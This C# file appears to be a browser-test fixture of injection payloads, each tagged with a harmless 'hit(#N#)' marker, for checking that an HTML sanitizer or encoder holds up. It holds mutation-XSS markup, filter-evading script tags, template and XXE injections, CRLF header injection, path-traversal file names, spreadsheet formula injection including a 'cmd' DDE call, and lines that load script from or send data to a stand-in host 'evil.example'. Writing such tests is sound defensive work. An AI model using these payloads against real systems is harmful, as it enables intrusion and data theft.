namespace KmCommons.BrowserTests.Attacks;

/// <summary>Attacks of a shape that no rule makes.</summary>
static class Shapes
{
    /// <summary>HTML that becomes other HTML when it is read, written and read again.</summary>
    public static readonly string[] Mutation =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(#N#)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(#N#)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=hit(#N#)>\">",
        "<svg><style><img title=\"</style><img src=x onerror=hit(#N#)>\"></style></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=hit(#N#)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=hit(#N#)></style></annotation-xml></math>",
        "<svg><foreignobject><p><style><!--</style><img src=x onerror=hit(#N#)>--></style></p></foreignobject></svg>",
        "<table><td><form><table></form><img src=x onerror=hit(#N#)></table>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=hit(#N#)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=hit(#N#)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=hit(#N#)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=hit(#N#)>\">",
        "<listing>&lt;img src=x onerror=hit(#N#)&gt;</listing>",
        "<plaintext><img src=x onerror=hit(#N#)>",
        "<svg><desc><table><thead><s></table></s><style><img src=x onerror=hit(#N#)></style>",
        "<p><svg><title><style><img title=\"</style><script>hit(#N#)</script>\"></title></svg>",
        "<a href=\"#\"><a href=\"javascript:hit(#N#)\">ก</a></a>",
        "<div><template shadowrootmode=open><img src=x onerror=hit(#N#)></template></div>",
        "<math><a xlink:href=javascript:hit(#N#)>ก</a></math>", "<svg><set attributeName=href to=javascript:hit(#N#) /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:hit(#N#)'/></svg>#x\"/></svg>",
        "<svg><script>hit&#40;#N#)</script></svg>", "<svg><script href=/hit/#N# /></svg>", "<svg><script xlink:href=\"data:,hit(#N#)\" /></svg>",
    ];

    /// <summary>Style that asks for something or runs it.</summary>
    public static readonly string[] Style =
    [
        "<style>*{background:url(/hit/#N#)}</style>", "<style>@import '/hit/#N#';</style>", "<p style=\"background:url(/hit/#N#)\">ก</p>", "<p style='width:expression(hit(#N#))'>ก</p>",
        "<p style=\"behavior:url(/hit/#N#)\">ก</p>", "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"hit(#N#)\">ก</b>", "<link rel=stylesheet href=/hit/#N#>", "<link rel=prefetch href=/hit/#N#>",
        "<table background=/hit/#N#><td background=/hit/#N#>ก</table>", "</style><style>main{display:none;background:url(/hit/#N#)}", "<svg><style>*{fill:url(/hit/#N#)}</style></svg>", "<p style=\"position:fixed;inset:0\">hit(#N#)</p>",
    ];

    /// <summary>Words of engines that fill templates, on the server and in the browser.</summary>
    public static readonly string[] Template =
    [
        "{{constructor.constructor('hit(#N#)')()}}", "{{$on.constructor('hit(#N#)')()}}", "${hit(#N#)}", "#{hit(#N#)}", "<%= hit(#N#) %>", "@{ hit(#N#) }", "@Html.Raw(\"<script>hit(#N#)</script>\")", "@@hit(#N#)",
        "<div ng-app ng-csp><p ng-click=$event.view.hit(#N#)>ก</p></div>", "<div v-html=\"'<img src=x onerror=hit(#N#)>'\"></div>", "<button popovertarget=x onbeforetoggle=hit(#N#)>ก</button><p popover id=x>ข</p>", "{0} {1} <b onclick=hit(#N#)>{2}</b>",
    ];

    /// <summary>Script, written so that a list of forbidden words does not know it.</summary>
    public static readonly string[] Script =
    [
        "<script>hit(#N#)</script>", "<ScRiPt>hit(#N#)</sCrIpT>", "<script\t\n>hit(#N#)</script\n>", "<script/ก>hit(#N#)</script>", "<script>hit(#N#)", "<scr<script>ipt>hit(#N#)</scr</script>ipt>", "<script src=/hit/#N#></script>",
        "<script src=//evil.example/hit/#N#></script>", "<script src=data:,hit(#N#)></script>", "<script type=module>import('/hit/#N#')</script>", "<script>\\u0068it(#N#)</script>", "<script nonce=x>hit(#N#)</script>", "<script type=importmap>{\"imports\":{\"x\":\"/hit/#N#\"}}</script>",
        "<script>//<!--\nhit(#N#)//--></script>", "<base href=//evil.example/hit/#N#/>", "<base target=\"<script>hit(#N#)</script>\">", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>hit(#N#)</script>", "<iframe srcdoc=\"<script>parent.hit(#N#)</script>\"></iframe>",
        "<isindex action=javascript:hit(#N#) type=image>", "<form id=x></form><button form=x formaction=javascript:hit(#N#)>ก</button>", "<img name=getElementById src=/x onerror=hit(#N#)>", "<a id=body href=/hit/#N#>ก</a><form name=body><input name=children>",
    ];

    /// <summary>For feeds, and whoever reads a page as XML.</summary>
    public static readonly string[] Xml =
    [
        "]]><script>hit(#N#)</script>", "<![CDATA[<script>hit(#N#)</script>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"/hit/#N#\">]>&y;", "&y;hit(#N#)&#0;", "<?xml-stylesheet href=\"javascript:hit(#N#)\"?>", "</title></entry><entry><title>hit(#N#)",
        "</content><link href=\"javascript:hit(#N#)\"/>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">hit(#N#)</x:script>", "<atom:link rel=self href=\"/hit/#N#\"/>", "]]]]><![CDATA[>hit(#N#)", "&lt;script&gt;hit(#N#)&lt;/script&gt;", "&amp;lt;img src=x onerror=hit(#N#)&amp;gt;",
    ];

    /// <summary>For heads of letters and answers.</summary>
    public static readonly string[] Header =
    [
        "hit(#N#)\r\nBcc: hidden@example.org", "hit(#N#)\nSubject: another", "hit(#N#)\rX-Evil: 1", "hit(#N#)%0d%0aSet-Cookie: x=1", "hit(#N#)\r\n\r\n<script>hit(#N#)</script>", "=?utf-8?B?PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==?= hit(#N#)", "hit(#N#)\u2028Bcc: hidden@example.org",
        "hit(#N#)\u0085X-Evil: 1", "\"hit(#N#)\" <hidden@example.org>", "hit(#N#)>, <hidden@example.org", "=?utf-8?Q?=0D=0ABcc:_hidden=40example.org?= hit(#N#)", "hit(#N#)\r\n.\r\nMAIL FROM:<hidden@example.org>", "hit(#N#)\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<script>hit(#N#)</script>",
    ];

    /// <summary>For names of files.</summary>
    public static readonly string[] Name =
    [
        "\"><img src=x onerror=hit(#N#)>.png", "hit(#N#).png\"; filename=\"x.html", "..\\..\\hit(#N#).html", "../../hit(#N#).html", "hit(#N#).svg", "hit(#N#).png\r\nContent-Type: text/html", "hit(#N#).html%00.png", "hit(#N#).png;.html", "<script>hit(#N#)<\\script>.txt", "hit(#N#)\u202Egpj.html",
        "hit(#N#).PhP", "CON.hit(#N#)", "hit(#N#)' onerror='hit(#N#)'.txt", "/etc/hit(#N#)", "hit(#N#).txt\u0000.html", "ภาพ](javascript:hit(#N#)).png",
    ];

    /// <summary>For tables that somebody opens as a sheet.</summary>
    public static readonly string[] Formula =
    [
        "=HYPERLINK(\"//evil.example/hit/#N#\";\"ก\")", "=cmd|' /C calc'!A0 hit(#N#)", "+hit(#N#)", "-hit(#N#)", "@SUM(hit(#N#))", "\t=hit(#N#)", "\r=hit(#N#)", "\"=hit(#N#)\"", "=IMPORTXML(\"//evil.example/hit/#N#\",\"//a\")", "'=hit(#N#)", "1,=hit(#N#)\n2,\"x", "=WEBSERVICE(\"/hit/#N#\")",
    ];

    /// <summary>Letters that look, read or count otherwise.</summary>
    public static readonly string[] Letters =
    [
        "\u202E>(#N#)tih=rorreno x=crs gmi<", "\uFF1Cscript\uFF1Ehit(#N#)\uFF1C/script\uFF1E", "<\u0E33img src=x onerror=hit(#N#)>", "<img\u3000src=x\u3000onerror=hit(#N#)>", "<img\u00A0src=x\u00A0onerror=hit(#N#)>", "\uFE64img src=x onerror=hit(#N#)\uFE65", "<\u200Bscript>hit(#N#)</script>",
        "<scr\u0000ipt>hit(#N#)</script>", "<img src=x onerror\u0000=hit(#N#)>", "\u0000<script>hit(#N#)</script>", "java\u0000script:hit(#N#)", "\uFEFF<script>hit(#N#)</script>", "\u2028<script>hit(#N#)</script>\u2029", "<img src=x onerror=hit\u2060(#N#)>", "+ADw-script+AD4-hit(#N#)+ADw-/script+AD4-",
        "\u00BCscript\u00BEhit(#N#)\u00BC/script\u00BE", "<\u017Fcript>hit(#N#)</\u017Fcript>", "<\u212Amg src=x onerror=hit(#N#)>", "\u0E01\u0E4D\u0E32<b onclick=hit(#N#)>\u0E01\u0E33</b>", "<\u0301img src=x onerror=hit(#N#)>", "\u2066<b onclick=hit(#N#)>\u2069", "\uD83D<script>hit(#N#)</script>", "<img src=x onerror=hit(#N#)>\uDC00",
    ];
}
